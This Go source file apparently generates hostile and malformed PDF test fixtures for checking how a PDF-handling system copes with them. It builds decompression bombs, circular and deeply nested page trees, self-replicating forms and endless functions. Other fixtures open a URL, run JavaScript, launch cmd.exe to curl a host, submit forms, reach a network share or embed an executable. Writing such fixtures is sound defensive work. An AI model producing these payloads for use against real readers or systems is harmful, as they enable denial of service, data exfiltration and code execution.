package hostile

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"hash/adler32"
	"strings"
)

// What most of the PDF files begin with: objects 1 to 3 and 5.
const (
	catalog = "<</Type /Catalog /Pages 2 0 R>>"
	pages   = "<</Type /Pages /Kids [3 0 R] /Count 1>>"
	font    = "<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"
	hello   = "BT /F1 24 Tf 72 700 Td (hello) Tj ET"
)

func page(more string) string {
	if !strings.Contains(more, "MediaBox") {
		more += " /MediaBox [0 0 595 842]"
	}
	return "<</Type /Page /Parent 2 0 R /Resources <</Font <</F1 5 0 R>>>> " + more + ">>"
}

// pdf numbers objects from 1 and adds their table.
func pdf(trailer string, objects ...string) []byte {
	out := []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	var table strings.Builder
	for i, o := range objects {
		fmt.Fprintf(&table, "%010d 00000 n \n", len(out))
		out = fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	return fmt.Appendf(out, "xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, table.String(), len(objects)+1, trailer, len(out))
}

func content(more, text string) string {
	return fmt.Sprintf("<<%s /Length %d>>\nstream\n%s\nendstream", more, len(text), text)
}

// swollenContent is a stream that unpacks to many megabytes.
func swollenContent(unit string, times int) string {
	return content("/Filter /FlateDecode", string(zlibbed(unit, times)))
}

// zlibbed wraps what was compressed as zlib does.
func zlibbed(unit string, times int) []byte {
	s := swell("", unit, times, "")
	text := []byte(strings.Repeat(unit, megabyte/len(unit)))
	sum := adler32.New()
	for range times {
		sum.Write(text)
	}
	return sum.Sum(append([]byte{0x78, 0xda}, s.raw...))
}

// twice compresses what is compressed.
func twice(times int) string {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	w.Write(zlibbed("\x00", times))
	w.Close()
	return content("/Filter [/FlateDecode /FlateDecode]", out.String())
}

func (m *maker) pdfs() {
	plain := content("", hello)
	put := func(kind string, objects ...string) { m.may(kind, "pdf", pdf("", objects...)) }
	at := func(kind, format string) string {
		return strings.ReplaceAll(format, "@", m.web(kind))
	}
	calls := func(kind, inCatalog, inPage string, more ...string) {
		put(kind, append([]string{strings.Replace(catalog, ">>", " "+at(kind, inCatalog)+">>", 1), pages, page("/Contents 4 0 R " + at(kind, inPage)), plain, font}, more...)...)
	}
	put("page tree that leads back to itself", catalog, "<</Type /Pages /Kids [2 0 R 3 0 R] /Count 100000>>", page("/Contents 4 0 R"), plain, font)
	put("page tree 10,000 deep", deepTree(10_000)...)
	put("parent of itself", catalog, pages, "<</Type /Page /Parent 3 0 R /Contents 4 0 R>>", plain, font)
	put("references in a circle", "4 0 R", "1 0 R", "2 0 R", "3 0 R")
	put("length that refers to itself", catalog, pages, page("/Contents 4 0 R"), "<</Length 4 0 R>>\nstream\n"+hello+"\nendstream", font)
	put("form that shows itself", catalog, pages, page("/Contents 4 0 R"), content("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 4 0 R>>>>", "/X Do /X Do"), font)
	put("forms that double", doubling(40)...)
	put("page of 14,400 inches", catalog, pages, page("/MediaBox [0 0 1036800 1036800] /Contents 4 0 R"), plain, font)
	put("page as large as a number", catalog, pages, page("/MediaBox [-2147483648 -2147483648 2147483647 2147483647] /UserUnit 1000000 /Contents 4 0 R"), plain, font)
	put("page of no size", catalog, pages, page("/MediaBox [0 0 0 0] /Contents 4 0 R"), plain, font)
	put("page of nonsense", catalog, pages, page("/MediaBox [/a (b) null 1e400] /Rotate 45 /Contents 4 0 R"), plain, font)
	m.refuse("no page", "pdf", pdf("", catalog, "<</Type /Pages /Kids [] /Count 0>>"))
	put("a page that a million are said to be", catalog, "<</Type /Pages /Kids [3 0 R] /Count 1000000>>", page("/Contents 4 0 R"), plain, font)
	put("100,000 times one page", catalog, "<</Type /Pages /Kids ["+strings.Repeat("3 0 R ", 100_000)+"] /Count 100000>>", page("/Contents 4 0 R"), plain, font)
	put("256 MB of content", catalog, pages, page("/Contents 4 0 R"), swollenContent("0 0 m 9 9 l S\n", 256), font)
	put("content compressed twice", catalog, pages, page("/Contents 4 0 R"), twice(512), font)
	put("picture of 60,000 × 60,000", catalog, pages, page("/Contents 4 0 R /Resources <</XObject <</X 6 0 R>>>>"), content("", "500 0 0 500 0 0 cm /X Do"), font, content("/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB", "a"))
	put("q 1,000,000 times", catalog, pages, page("/Contents 4 0 R"), swollenContent("q ", 2), font)
	put("arrays 100,000 deep", catalog, pages, page("/Contents 4 0 R /A "+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)), plain, font)
	put("pattern that paints itself", catalog, pages, page("/Contents 4 0 R"), content("/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources <</Pattern <</P 4 0 R>>>>", "/Pattern cs /P scn 0 0 9999 9999 re f"), font)
	put("function that computes for ever", catalog, pages, page("/Contents 4 0 R"), content("/FunctionType 4 /Domain [0 1] /Range [0 1]", "{ "+strings.Repeat("dup mul ", 100_000)+"}"), font)
	calls("script on opening", `/OpenAction <</S /JavaScript /JS (app.launchURL\("@"\);this.submitForm\("@"\))>>`, "")
	calls("program on opening", `/OpenAction <</S /Launch /F (cmd.exe) /Win <</F (cmd.exe) /P (/c curl @)>>>>`, "")
	calls("address on opening", `/OpenAction <</S /URI /URI (@)>>`, `/AA <</O <</S /URI /URI (@)>>>>`)
	calls("form that is sent", `/OpenAction <</S /SubmitForm /F <</FS /URL /F (@)>>>>`, "")
	calls("other file on opening", `/OpenAction <</S /GoToR /F (\\\\127.0.0.1\\share\\a.pdf) /D [0 /Fit]>>`, `/AA <</O <</S /GoToE /F (@)>>>>`)
	calls("form of XML", `/AcroForm <</XFA 6 0 R>>`, "", content("", at("form of XML", `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><subform><submit target="@"/><image href="@"/></subform></template></xdp:xdp>`)))
	calls("content that lies elsewhere", "", "/Thumb 6 0 R", at("content that lies elsewhere", "<</Length 0 /F <</FS /URL /F (@)>>>>\nstream\n\nendstream"))
	calls("picture that lies elsewhere", "", "/Annots [<</Type /Annot /Subtype /Movie /Rect [0 0 200 200] /Movie <</F (@)>>>>]")
	calls("files inside", `/Names <</EmbeddedFiles <</Names [(a.exe) <</Type /Filespec /F (../../a.exe) /EF <</F 6 0 R>>>>]>>>>`, "", content("/Type /EmbeddedFile", "MZ\x90\x00"))
	file := pdf("", catalog, pages, page("/Contents 4 0 R"), plain, font)
	m.may("table that refers to itself", "pdf", bytes.Replace(file, []byte("/Root"), []byte("/Prev 15 /XRefStm 15 /Root"), 1))
	m.may("table beyond the end", "pdf", bytes.Replace(file, []byte("startxref\n"), []byte("startxref\n99999999"), 1))
	m.may("table of very many objects", "pdf", bytes.Replace(file, []byte("0 6\n"), []byte("0 2147483647\n"), 1))
	m.may("without a head", "pdf", file[9:])
	m.may("head behind a megabyte", "pdf", append(bytes.Repeat([]byte("a"), megabyte), file...))
	m.refuse("nothing but a head", "pdf", []byte("%PDF-1.7\n"))
	m.may("encryption of an unknown way", "pdf", pdf("/Encrypt <</Filter /Own /V 99>>", catalog, pages, page("/Contents 4 0 R"), plain, font))
	m.may("page and program in one", "pdf", append([]byte("#!/bin/sh\necho hello\nexit\n"), file...))
}

func deepTree(depth int) []string {
	objects := []string{catalog}
	for i := range depth {
		objects = append(objects, fmt.Sprintf("<</Type /Pages /Kids [%d 0 R] /Count 1>>", i+3))
	}
	return append(objects, page(""))
}

// doubling shows a form twice, in a form that is shown twice, and so on.
func doubling(depth int) []string {
	objects := []string{catalog, pages, page("/Contents 4 0 R /Resources <</XObject <</X 6 0 R>>>>"), content("", "/X Do"), font}
	for i := range depth {
		objects = append(objects, content(fmt.Sprintf("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X %d 0 R>>>>", i+7), "/X Do /X Do"))
	}
	return append(objects, content("/Type /XObject /Subtype /Form /BBox [0 0 9 9]", "0 0 5 5 re f"))
}
